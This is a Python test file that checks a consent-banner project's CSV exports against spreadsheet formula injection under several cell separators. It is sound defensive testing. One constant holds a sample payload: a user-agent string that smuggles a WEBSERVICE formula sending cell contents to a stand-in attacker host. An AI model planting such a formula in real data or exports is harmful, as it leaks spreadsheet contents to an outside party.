"""Exports are safe to open in any spreadsheet, whatever it splits cells on (issue 26, item 5).

A spreadsheet with Indonesian settings splits a CSV on ``;``; one opening a
file as text may split on tab. Whatever a visitor put in their user agent or
page path, no cell any of them sees may start a formula (``=`` ``+`` ``-``
``@``), and every text cell is quoted. Every CSV this project writes is
checked: the decisions export (CLI and dashboard share its lines) and the
notices twin file.
"""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace
from datetime import UTC, datetime

from hypothesis import given
from hypothesis import strategies as st

from banner.log.export import csv_lines, write_notices_csv
from banner.log.notices import ArchivedNotice
from tests.admin.conftest import decision

SEPARATORS = (",", ";", "\t")
WHEN = datetime(2026, 11, 2, 8, tzinfo=UTC)
ATTACK = 'Mozilla/5.0;=WEBSERVICE("https://evil.example/?"&A1)'


def cells_seen(line: str) -> list[str]:
    """Every cell a spreadsheet might see in ``line``, with any separator, quotes or not."""
    seen = []
    for separator in SEPARATORS:
        for row in csv.reader(io.StringIO(line, newline=""), delimiter=separator):
            seen += row
        seen += line.split(separator)  # a program that ignores the quotes
    return seen


def formula(cell: str) -> bool:
    return re.match(r"[\s\"]*[=+\-@]", cell) is not None


def exported(user_agent: str, page_path: str = "/") -> str:
    row = replace(decision("consent-id-000000001", WHEN, "accept", ()), page_path=page_path)
    header, line = csv_lines([replace(row, user_agent=user_agent)])
    assert header.startswith('"consent_id","site"')
    return line


def test_a_formula_after_a_semicolon_is_neutralised() -> None:
    line = exported(ATTACK)
    assert ";'=WEBSERVICE" in line
    assert not any(formula(cell) for cell in cells_seen(line))


@given(st.text(max_size=60), st.text(max_size=60))
def test_no_cell_of_any_split_starts_a_formula(user_agent: str, page_path: str) -> None:
    line = exported(user_agent, page_path)
    assert not any(formula(cell) for cell in cells_seen(line))


def test_every_text_cell_is_quoted_and_numbers_stay_numbers() -> None:
    [cells] = csv.reader(io.StringIO(exported("Mozilla/5.0")), quoting=csv.QUOTE_NONNUMERIC)
    assert cells[6] == 3.0  # policy_version: a number a spreadsheet can sum
    assert all(isinstance(cell, str) for n, cell in enumerate(cells) if n != 6)


def test_the_notices_file_quotes_every_cell() -> None:
    notice = ArchivedNotice(hash="=" + "a" * 63, first_seen=WHEN, text='{"a":1}')
    out = io.StringIO()
    write_notices_csv([notice], out)
    header, line = out.getvalue().splitlines()
    assert header == '"hash","first_seen","document"'
    assert line.startswith("\"'=aaa") and line.endswith('"{""a"":1}"')
